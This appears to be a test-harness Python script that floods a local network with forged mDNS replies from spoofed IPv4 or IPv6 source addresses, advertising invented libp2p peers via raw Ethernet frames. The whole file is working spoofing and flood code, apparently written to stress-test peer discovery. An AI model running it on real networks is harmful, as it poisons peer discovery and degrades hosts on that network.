"""Multicasts replies of invented libp2p peers from forged addresses, as fast as it is told; started by interop/hostile.

Run on the attacker's host. All frames are made beforehand; then it prints a line of JSON, waits for a line of input, sends, and
prints another with what came of it.
"""

import argparse
import ipaddress
import json
import os
import random
import resource
import socket
import struct
import sys
import time

MODES = {
    "one": "one source address",
    "ipv4": "random IPv4 sources of the subnet",
    "ipv6": "random link-local IPv6 sources",
}
PORT = 5353
_GROUPS = {4: ipaddress.ip_address("224.0.0.251"), 6: ipaddress.ip_address("ff02::fb")}
_SERVICE = b"\x04_p2p\x04_udp\x05local\x00"
_BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_BASE58_PAIRS = [a + b for a in _BASE58 for b in _BASE58]
_ED25519 = bytes((0x00, 0x24, 0x08, 0x01, 0x12, 0x20))
_STEP_SECONDS = 0.001


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", choices=MODES, required=True)
    parser.add_argument("--rate", type=int, required=True, help="packets a second")
    parser.add_argument("--packets", type=int, required=True)
    parser.add_argument("--peers", type=int, required=True, help="how many peers are invented")
    parser.add_argument("--ttl", type=int, required=True, help="for how long they are to be believed, in seconds")
    parser.add_argument("--own", type=ipaddress.ip_interface, required=True, help="this host's address with its prefix length")
    arguments = parser.parse_args()
    frames = list(frames_of(arguments))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        print(json.dumps({"event": "ready"}), flush=True)
        sys.stdin.readline()
        os.setpriority(os.PRIO_PROCESS, 0, -10)
        send(raw, frames, arguments.rate)


def send(raw, frames, rate):
    before = processor_seconds()
    started = time.perf_counter()
    print(json.dumps({"event": "begun", "at": micros()}), flush=True)
    sent = refused = 0
    while sent < len(frames):
        due = min(len(frames), int((time.perf_counter() - started) * rate) + 1)
        for frame in frames[sent:due]:
            try:
                raw.send(frame)
            except OSError:
                refused += 1
        sent = due
        time.sleep(_STEP_SECONDS)
    seconds = time.perf_counter() - started
    print(json.dumps({"event": "ended", "at": micros(), "sent": sent - refused, "seconds": seconds,
                      "cpu": processor_seconds() - before}), flush=True)


def frames_of(arguments):
    """All frames, one after the other; the invented peers come in turn, each time from another source."""
    chance = random.Random(1)
    family = 6 if arguments.mode == "ipv6" else 4
    ethernet = ethernet_header(family)
    messages = [message(number, f"/ip4/{arguments.own.ip}/tcp/4001/p2p/{peer_id(chance)}", arguments.ttl)
                for number in range(min(arguments.peers, arguments.packets))]
    for number in range(arguments.packets):
        payload = messages[number % len(messages)]
        yield ethernet + packet(source(arguments, chance), _GROUPS[family], payload)


def source(arguments, chance):
    if arguments.mode == "one":
        return arguments.own.ip
    if arguments.mode == "ipv4":
        subnet = arguments.own.network
        return subnet[chance.randrange(1, subnet.num_addresses - 1)]
    return ipaddress.IPv6Address(0xFE80 << 112 | chance.getrandbits(64))


def peer_id(chance):
    """The text of an Ed25519 peer id, base58 of its bytes, whose first one is zero."""
    number = int.from_bytes(_ED25519 + chance.randbytes(32), "big")
    digits = []
    while number:
        number, pair = divmod(number, 58 * 58)
        digits.append(_BASE58_PAIRS[pair])
    return "1" + "".join(reversed(digits)).lstrip("1")


def message(number, address, ttl):
    """A reply as go-libp2p shapes it: the pointer is the answer, the text with the address is beside it."""
    label = f"invented-{number}".encode()
    label = bytes((len(label),)) + label
    text = f"dnsaddr={address}".encode()
    text = bytes((len(text),)) + text
    header = struct.pack("!6H", 0, 0x8400, 0, 1, 0, 1)
    service = len(header)
    instance = service + len(_SERVICE) + 10
    pointer = _SERVICE + struct.pack("!HHIH", 12, 1, ttl, len(label) + 2) + label + struct.pack("!H", 0xC000 | service)
    return header + pointer + struct.pack("!HHHIH", 0xC000 | instance, 16, 0x8001, ttl, len(text)) + text


def ethernet_header(family):
    group, kind = ("01005e0000fb", "0800") if family == 4 else ("3333000000fb", "86dd")
    with open("/sys/class/net/eth0/address", encoding="ascii") as own:
        return bytes.fromhex(group + own.read().strip().replace(":", "") + kind)


def packet(sender, group, payload):
    length = 8 + len(payload)
    if sender.version == 4:
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 255, 17, 0) + sender.packed + group.packed
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        return header + struct.pack("!4H", PORT, PORT, length, 0) + payload  # zero: without a checksum
    header = struct.pack("!IHBB", 0x60000000, length, 17, 255) + sender.packed + group.packed
    pseudo = sender.packed + group.packed + struct.pack("!II", length, 17)
    total = checksum(pseudo + struct.pack("!4H", PORT, PORT, length, 0) + payload)
    return header + struct.pack("!4H", PORT, PORT, length, total or 0xFFFF) + payload


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def processor_seconds():
    used = resource.getrusage(resource.RUSAGE_SELF)
    return used.ru_utime + used.ru_stime


def micros():
    return time.time_ns() // 1000


if __name__ == "__main__":
    main()
